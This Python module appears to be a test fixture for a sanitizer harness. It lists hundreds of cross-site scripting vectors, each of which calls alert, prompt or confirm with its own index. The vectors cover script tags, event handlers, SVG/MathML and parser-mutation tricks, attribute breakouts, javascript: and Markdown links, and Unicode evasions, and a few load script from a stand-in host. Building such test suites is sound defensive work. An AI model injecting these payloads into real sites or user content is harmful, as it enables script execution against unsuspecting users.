"""XSS vectors.

``RUN`` stands for a call that the harness detects, ``⏎`` for a newline.
"""

_CALLS = ("alert({})", "prompt({})", "confirm({})", "alert`{}`", "top.alert({})", "self['al'+'ert']({})")

_SCRIPTS = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<sCrIpT type="text/javascript">RUN</sCrIpT>
<script/oar=1>RUN</script>
<script type=module>RUN</script>
<script src="data:text/javascript,RUN"></script>
<script src="//elsewhere.example/lamp.js"></script>
<script async src=data:,RUN></script>
<script>RUN//
<script\t>RUN</script\t>
<script>/* </script><script>RUN/* */</script>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"></script></svg>
<svg><script xlink:href="data:text/javascript,RUN" /></svg>
<math><script>RUN</script></math>
</script><script>RUN</script>
--><script>RUN</script><!--
]]><script>RUN</script>
<script>document.body.setAttribute('onclick','RUN');document.body.click()</script>
<script>new Function('RUN')()</script>
<script>setTimeout('RUN')</script>
<script>import('data:text/javascript,RUN')</script>
<script type="text/javascript;version=1.8">RUN</script>
<script defer>RUN</script>
<div><script>RUN</script></div>
"""

_HANDLERS = """
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src='x' onerror='RUN'>
<img/src=x/onerror=RUN>
<img src onerror=RUN>
<img src=x:x onerror=RUN>
<img src=x onerror=RUN//
<img src=x oNeRrOr=RUN>
<img src=x onerror =RUN>
<img src=x onerror&#61;RUN onerror=RUN>
<img src=x onerror=&#97;lert(1);RUN>
<img srcset=x onerror=RUN>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=RUN>
<image src=x onerror=RUN>
<picture><source srcset=x><img onerror=RUN src=x></picture>
<audio src=x onerror=RUN></audio>
<video src=x onerror=RUN></video>
<video><source onerror=RUN src=x></video>
<video poster=x onmouseover=RUN></video>
<object data=x onerror=RUN></object>
<embed src=x onerror=RUN>
<iframe onload=RUN></iframe>
<iframe src=about:blank onload=RUN></iframe>
<body onload=RUN>
<body onpageshow=RUN>
<body onhashchange=RUN>
<body onfocus=RUN>
<link rel=stylesheet href=x onerror=RUN>
<link rel=stylesheet href=data:text/css, onload=RUN>
<style onload=RUN></style>
<style onload=RUN>p{}</style>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>tide</button>
<button onclick=RUN>tide</button>
<a autofocus tabindex=1 onfocus=RUN>tide</a>
<a onclick=RUN>tide</a>
<a href=# onclick=RUN>tide</a>
<b onclick=RUN>tide</b>
<p onmouseover=RUN>tide</p>
<p onmouseenter=RUN>tide</p>
<p onpointerover=RUN>tide</p>
<div onmousemove=RUN>tide</div>
<div ondblclick=RUN>tide</div>
<div oncontextmenu=RUN>tide</div>
<div onwheel=RUN>tide</div>
<div onkeydown=RUN tabindex=0>tide</div>
<div oncopy=RUN contenteditable>tide</div>
<div onfocusin=RUN tabindex=0>tide</div>
<details open ontoggle=RUN><summary>tide</summary></details>
<details ontoggle=RUN><summary onclick=RUN>tide</summary></details>
<marquee onstart=RUN>tide</marquee>
<marquee loop=1 width=0 onfinish=RUN>tide</marquee>
<meter onmouseover=RUN value=2>tide</meter>
<dialog open onclick=RUN>tide</dialog>
<label onclick=RUN>tide</label>
<table background=x onmouseover=RUN><tr><td>tide</table>
<xyz onclick=RUN>tide</xyz>
<xyz tabindex=1 autofocus onfocus=RUN>tide</xyz>
<custom-sail onmouseover=RUN>tide</custom-sail>
<p style=animation:x onanimationstart=RUN>tide</p>
<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=RUN>tide</p>
<p onbeforetoggle=RUN popover id=pop>tide</p><button popovertarget=pop>tide</button>
"""

_SVG = """
<svg onload=RUN>
<svg/onload=RUN>
<svg><g onload=RUN></g></svg>
<svg><a xlink:href="javascript:RUN"><text x=0 y=9>tide</text></a></svg>
<svg><a href="javascript:RUN"><text x=0 y=9>tide</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onbegin=RUN attributename=x to=1></svg>
<svg><animatetransform onbegin=RUN></svg>
<svg><a><animate attributeName=href values="javascript:RUN"/><text x=0 y=9>tide</text></a></svg>
<svg><image href=x onerror=RUN></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RUN'/></svg>#x"></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><title><img src=x onerror=RUN></title></svg>
<svg><desc><img src=x onerror=RUN></desc></svg>
<math><mtext><img src=x onerror=RUN></mtext></math>
<math href="javascript:RUN">tide</math>
<math><a xlink:href="javascript:RUN">tide</a></math>
<math><mi onclick=RUN>tide</mi></math>
<math><maction actiontype="statusline" onclick=RUN>tide</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
"""

_MUTATIONS = """
<noscript><p title="</noscript><img src=x onerror=RUN>">
<style><p title="</style><img src=x onerror=RUN>">
<title><p title="</title><img src=x onerror=RUN>">
<textarea><p title="</textarea><img src=x onerror=RUN>">
<template><p></template><img src=x onerror=RUN>
<xmp><p title="</xmp><img src=x onerror=RUN>">
<noembed><p title="</noembed><img src=x onerror=RUN>">
<noframes><p title="</noframes><img src=x onerror=RUN>">
<iframe><p title="</iframe><img src=x onerror=RUN>">
<!--><img src=x onerror=RUN>-->
<!---><img src=x onerror=RUN>-->
<!--x--!><img src=x onerror=RUN>-->
<? <img src=x onerror=RUN> ?>
<![CDATA[<img src=x onerror=RUN>]]>
<!doctype x><img src=x onerror=RUN>
</ <img src=x onerror=RUN>
<a<b><img src=x onerror=RUN>
<math><mi><table><mglyph><style><img src=x onerror=RUN>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<math></p><style><!--</style><img src=x onerror=RUN>-->
<select><style></select><img src=x onerror=RUN>
<table><td><style></table><img src=x onerror=RUN></style>
<frameset><frame onload=RUN></frameset>
<plaintext><img src=x onerror=RUN>
</title><img src=x onerror=RUN>
</textarea><img src=x onerror=RUN>
</style><img src=x onerror=RUN>
</pre></code></figure></article><img src=x onerror=RUN>
</main></body></html><img src=x onerror=RUN>
</h2></header><svg onload=RUN>
</bdi></a><img src=x onerror=RUN>
"""

_BREAKOUTS = """
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
"><script>RUN</script>
" onmouseover="RUN
" onclick="RUN" x="
' onclick='RUN' x='
" autofocus tabindex="1" onfocus="RUN
" onmouseover=RUN x="
x onmouseover=RUN x
`onmouseover=RUN
" style="animation:x" onanimationstart="RUN
" class="permalink" onclick="RUN" data-x="
" href="javascript:RUN" x="
\\"><img src=x onerror=RUN>
&quot;><img src=x onerror=RUN>
&#34; onmouseover=&#34;RUN
%22><img src=x onerror=RUN>
" id="main" onfocus="RUN" tabindex="0
"/><svg/onload=RUN>
{{ ''.__class__ }}<img src=x onerror=RUN>
{% raw %}<img src=x onerror=RUN>{% endraw %}
${RUN}<img src=x onerror=RUN>
"""

_FRAMES = """
<iframe src="javascript:RUN"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe srcdoc="<img src=x onerror=RUN>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>
<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>RUN</script>"></iframe>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>RUN</script>"></object>
<object type="text/html" data="data:text/html,<script>parent.RUN</script>"></object>
<embed src="javascript:RUN">
<embed src="data:text/html,<script>RUN</script>">
<base href="javascript:RUN//"><a href="tide">tide</a>
<base href="//elsewhere.example/"><script src="lamp.js"></script>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">
<meta http-equiv="Content-Security-Policy" content="script-src *"><img src=x onerror=RUN>
<link rel=import href="data:text/html,<script>RUN</script>">
<link rel=preload as=script href=//elsewhere.example/lamp.js onload=RUN>
<form action="javascript:RUN"><input type=submit value=tide></form>
<form><button formaction="javascript:RUN">tide</button></form>
<form><input type=image src=x formaction="javascript:RUN"></form>
<form id=tideform action="javascript:RUN"></form><button form=tideform>tide</button>
<area href="javascript:RUN"><map name=m><area shape=default href="javascript:RUN"></map>
<form id=alert></form><img src=x onerror=RUN>
<a id=permalinks><a id=permalinks name=relative href="javascript:RUN">tide</a>
<img name=body src=x onerror=RUN>
<input name=attributes onfocus=RUN autofocus>
"""

_STYLES = """
<style>@import 'javascript:RUN';</style>
<style>*{background:url(//elsewhere.example/dot)}</style><img src=x onerror=RUN>
<p style="background:url(javascript:RUN)">tide</p>
<p style="width:expression(RUN)">tide</p>
<p style="-moz-binding:url(data:text/xml,RUN)">tide</p>
<p style="position:fixed;inset:0" onmouseover=RUN>tide</p>
<link rel=stylesheet href="javascript:RUN">
<style></style><img src=x onerror=RUN><style></style>
</style><svg onload=RUN><style>
"""

_LINKS = """
<a href="javascript:RUN">tide</a>
<a href=javascript:RUN>tide</a>
<a href="JaVaScRiPt:RUN">tide</a>
<a href=" javascript:RUN">tide</a>
<a href="&#106;avascript:RUN">tide</a>
<a href="&#x6A;avascript:RUN">tide</a>
<a href="&#0000106avascript:RUN">tide</a>
<a href="java&#9;script:RUN">tide</a>
<a href="java&Tab;script:RUN">tide</a>
<a href="java&NewLine;script:RUN">tide</a>
<a href="javascript&colon;RUN">tide</a>
<a href="&#1;javascript:RUN">tide</a>
<a href="javascript://%0aRUN">tide</a>
<a href="javascript:%61lert(1);RUN">tide</a>
<a href="javascript:'<img src=x onerror=RUN>'">tide</a>
<a href="data:text/html,<script>RUN</script>" target=_self>tide</a>
<a href="vbscript:RUN">tide</a>
<a href="blob:javascript:RUN">tide</a>
<a href="java\tscript:RUN">tide</a>
<a href="\x01javascript:RUN">tide</a>
<a href="javascript\u200b:RUN" onclick=RUN>tide</a>
[tide](javascript:RUN)
[tide](JAVASCRIPT:RUN)
[tide]( javascript:RUN )
[tide](<javascript:RUN>)
[tide](<java&Tab;script:RUN>)
[tide](java&Tab;script:RUN)
[tide](&#106;avascript:RUN)
[tide](javascript&colon;RUN)
[tide](\\javascript:RUN)
[tide](javascript\\:RUN)
[tide](j\\avascript:RUN)
[tide](javascript://%0aRUN)
[tide](vbscript:RUN)
[tide](data:text/html,RUN)
[tide](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[tide](data:image/svg+xml,RUN)
[tide](//elsewhere.example/RUN)
[tide](file:///etc/hosts "RUN")
[tide](https://example.org/"onmouseover="RUN)
[tide](https://example.org/ "x" onmouseover=RUN")
[tide](https://example.org/ '"onmouseover="RUN')
[tide](https://example.org/ (\\"onmouseover=RUN\\"))
[tide](https://example.org/'onclick='RUN)
[tide](<https://example.org/><img src=x onerror=RUN>)
[tide](#" onclick="RUN)
[tide](mailto:x@example.org"onclick="RUN)
[<img src=x onerror=RUN>](https://example.org)
[tide][lamp]⏎⏎[lamp]: javascript:RUN
[tide][lamp]⏎⏎[lamp]: https://example.org/ "\\"onclick=RUN"
![tide](javascript:RUN)
![tide](x"onerror="RUN)
![tide](https://example.org/x.png"onerror="RUN)
![" onerror="RUN](https://example.org/x.png)
![tide](https://example.org/x.png '" onerror="RUN')
![<img src=x onerror=RUN>](https://example.org/x.png)
[![tide](javascript:RUN)](javascript:RUN)
<javascript:RUN>
<JAVASCRIPT:RUN>
<vbscript:RUN>
<data:text/html,RUN>
<https://example.org/"onmouseover="RUN>
<x@example.org"onclick="RUN>
```"><img src=x onerror=RUN>⏎tide⏎```
```python" onmouseover="RUN⏎tide⏎```
~~~<img src=x onerror=RUN>⏎tide⏎~~~
``<img src=x onerror=RUN>``
    <img src=x onerror=RUN>
| <img src=x onerror=RUN> |⏎|---|⏎| <svg onload=RUN> |
| a |⏎|:--"onclick=RUN-|⏎| b |
# <img src=x onerror=RUN> {#x onclick=RUN}
1. <img src=x onerror=RUN>
> <img src=x onerror=RUN>
*<img src=x onerror=RUN>*
\\<img src=x onerror=RUN>
&lt;img src=x onerror=RUN&gt;
&#60;img src=x onerror=RUN&#62;
"""

_UNICODE = """
\uff1cscript\uff1eRUN\uff1c/script\uff1e
\u2039img src=x onerror=RUN\u203a
<img src=x onerror=\u2028RUN>
<img\u00a0src=x\u00a0onerror=RUN>
<img\x0csrc=x\x0conerror=RUN>
<img\x0bsrc=x onerror=RUN>
<\x00img src=x onerror=RUN>
<im\x00g src=x onerror=RUN>
<\u200bimg src=x onerror=RUN><img src=x onerror=RUN>
\u202e<img src=x onerror=RUN>
<img src=x \u202eonerror=RUN>
\ufeff<script>RUN</script>
<\u017fcript>RUN</\u017fcript>
\x1b]8;;javascript:RUN\x1b\\tide\x1b]8;;\x1b\\
⟦U+202E⟧<img src=x onerror=RUN>\u202e
\u202e⟦U+0022⟧ onclick=RUN
<img src=x\u202e title='>' onerror=RUN>
+ADw-script+AD4-RUN+ADw-/script+AD4-
\xbcscript\xbeRUN\xbc/script\xbe
"""

_LISTS = (_SCRIPTS, _HANDLERS, _SVG, _MUTATIONS, _BREAKOUTS, _FRAMES, _STYLES, _LINKS, _UNICODE)


def _vectors() -> list[str]:
    # Not `splitlines`: some vectors contain other line separators.
    return [line for text in _LISTS for line in text.strip("\n").split("\n") if line]


def _numbered_vectors() -> tuple[str, ...]:
    return tuple(
        line.replace("RUN", _CALLS[n % len(_CALLS)].format(n)).replace("⏎", "\n") for n, line in enumerate(_vectors())
    )


VECTORS = _numbered_vectors()
"""Each vector calls a function with its index, which identifies it."""
